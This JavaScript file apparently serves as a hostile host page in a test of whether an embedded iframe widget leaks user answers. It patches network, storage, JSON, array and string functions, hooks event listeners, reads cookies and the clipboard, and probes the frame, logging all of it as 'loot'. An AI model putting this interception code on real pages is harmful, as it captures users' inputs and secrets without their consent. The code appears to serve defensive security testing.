// A page that wants to know what was answered, and tries every way a script in it has. What it got, `handOver` says.
const loot = []
const seen = new Set()
const words = (what, deep = 3) => {
  if (typeof what === 'function') return 'function'
  if (what === null || typeof what !== 'object' || what instanceof String) return String(what)
  if (what instanceof Node || what === window || deep === 0) return Object.prototype.toString.call(what)
  const parts = []
  for (const name of Object.getOwnPropertyNames(what)) {
    try { parts.push(name + ':' + words(what[name], deep - 1)) } catch (error) { parts.push(name + ':' + error.name) }
  }
  return '{' + parts.join() + '}'
}
const push = Array.prototype.push, add = Set.prototype.add
let busy = false
const steal = (how, ...what) => {
  if (busy) return
  busy = true
  try {
    const line = how + ' ' + what.map((one) => words(one)).join(' ')
    Reflect.apply(push, loot, [line])
  } catch {}
  busy = false
}

// Every function that an answer could pass through, replaced before the widget loads.
const patch = (owner, name, how) => {
  const original = owner?.[name]
  if (typeof original !== 'function') return
  owner[name] = function (...given) {
    steal(how ?? name, this === owner ? '' : this, ...given)
    return new.target ? Reflect.construct(original, given) : Reflect.apply(original, this, given)
  }
  owner[name].prototype = original.prototype
}
for (const name of ['fetch', 'postMessage', 'setTimeout', 'Request', 'BroadcastChannel', 'WebSocket', 'EventSource'])
  patch(window, name)
patch(Navigator.prototype, 'sendBeacon')
for (const name of ['open', 'send', 'setRequestHeader']) patch(XMLHttpRequest.prototype, name)
for (const name of ['json', 'text', 'arrayBuffer', 'blob', 'clone']) patch(Response.prototype, name)
for (const name of ['getItem', 'setItem', 'removeItem']) patch(Storage.prototype, name)
for (const name of ['then', 'catch', 'finally']) patch(Promise.prototype, name)
for (const name of ['stringify', 'parse']) patch(JSON, name)
for (const name of ['some', 'every', 'map', 'filter', 'forEach', 'includes', 'push', 'flat', 'indexOf']) patch(Array.prototype, name)
for (const name of ['replace', 'split', 'trim', 'includes']) patch(String.prototype, name)
for (const name of ['postMessage']) { patch(MessagePort.prototype, name); patch(BroadcastChannel.prototype, name) }
for (const name of ['get', 'set', 'append']) { patch(FormData.prototype, name); patch(Headers.prototype, name) }
patch(IDBFactory.prototype, 'open')
patch(crypto.constructor.prototype, 'randomUUID')
patch(TextEncoder.prototype, 'encode')
for (const name of ['score', 'comment', 'reason', 'contact', 'answer', 'view', 'revision', 'response', 'data'])
  Object.defineProperty(Object.prototype, name, {
    configurable: true,
    get() { steal('read ' + name, this) },
    set(value) {
      steal('wrote ' + name, value)
      Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true })
    },
  })
const { addEventListener: listen } = EventTarget.prototype
EventTarget.prototype.addEventListener = function (type, listener, ...rest) {
  // What the widget hears, the page hears first.
  const tapped = typeof listener === 'function' ? function (event) { steal('tap ' + type, event.data); return listener.call(this, event) } : listener
  return listen.call(this, type, tapped, ...rest)
}

// Every event that reaches the page, and every change of the frame's element.
const kinds = ['message', 'messageerror', 'focus', 'blur', 'focusin', 'focusout', 'input', 'beforeinput', 'change', 'keydown',
  'keyup', 'keypress', 'pointerdown', 'pointerup', 'click', 'submit', 'invalid', 'select', 'selectionchange', 'copy', 'cut',
  'paste', 'compositionend', 'dragstart', 'drop', 'scroll', 'wheel', 'resize', 'storage', 'hashchange', 'popstate',
  'pagehide', 'visibilitychange', 'securitypolicyviolation', 'error', 'unhandledrejection', 'animationstart', 'transitionend',
  'load', 'toggle', 'fullscreenchange', 'autocomplete', 'reset']
const inFrame = () => document.querySelector('iframe')
for (const kind of kinds)
  listen.call(window, kind, (event) => {
    const { target, data, key, detail, inputType } = event
    if (target === inFrame() || !(target instanceof Node)) steal('event ' + kind, { data, key, inputType })
  }, true)
const report = (list) => list.forEach((one) => steal('observed', one.type ?? '', one.attributeName ?? ''))
new MutationObserver((list) => {
  report(list)
  const frame = inFrame()
  if (!frame || seen.has(frame)) return
  add.call(seen, frame)
  new ResizeObserver((sizes) => sizes.forEach(({ contentRect }) => steal('size', `${contentRect.width}x${contentRect.height}`)))
    .observe(frame)
}).observe(document, { subtree: true, childList: true, attributes: true })
for (const type of PerformanceObserver.supportedEntryTypes)
  new PerformanceObserver((list) => list.getEntries().forEach(({ name, entryType }) => steal('entry', entryType, name)))
    .observe({ type, buffered: true })

// What can be asked of the frame at any moment.
const ways = {
  document: (frame) => frame.contentDocument,
  body: (frame) => frame.contentWindow.document.body.innerText,
  address: (frame) => frame.contentWindow.location.href,
  hash: (frame) => frame.contentWindow.location.hash,
  storage: (frame) => Object.keys(frame.contentWindow.localStorage),
  answers: (frame) => frame.contentWindow.answer,
  form: (frame) => frame.contentWindow.form,
  name: (frame) => frame.contentWindow.name,
  global: (frame) => frame.contentWindow.eval('score'),
  frames: (frame) => frame.contentWindow.length,
  closed: (frame) => frame.contentWindow.closed,
  history: (frame) => frame.contentWindow.history.length,
  own: (frame) => Object.getOwnPropertyNames(frame.contentWindow).join(),
  markup: (frame) => frame.outerHTML,
  style: (frame) => frame.style.cssText,
  box: (frame) => JSON.stringify(frame.getBoundingClientRect()),
  scrolled: (frame) => [frame.scrollTop, frame.scrollHeight, frame.clientHeight].join(),
  selection: () => String(getSelection()),
  cookie: () => document.cookie,
  own_storage: () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
  entries: () => performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => !name.endsWith('/activity')).join(),
  found: () => window.find('zebra') || window.find('Too slow'),
  history_length: () => history.length,
  memory: () => typeof performance.memory,
}
window.peek = () => {
  const frame = inFrame()
  busy = true
  const found = Object.entries(ways).map(([name, way]) => {
    try { return name + ' ' + way(frame) } catch (error) { return name + ' ' + error.name }
  })
  busy = false
  return found
}
window.mark = (line) => {
  performance.clearResourceTimings()
  steal(line)
}
window.fetched = (what) => {
  busy = true
  const found = loot.join('\n').includes(`entry resource ${what}`)
  busy = false
  return found
}
// With it the page stops stealing: whoever reads the loot would be stolen from, too.
window.handOver = () => {
  busy = true
  return loot.join('\n')
}
window.pasted = () => navigator.clipboard.readText().catch((error) => error.name)
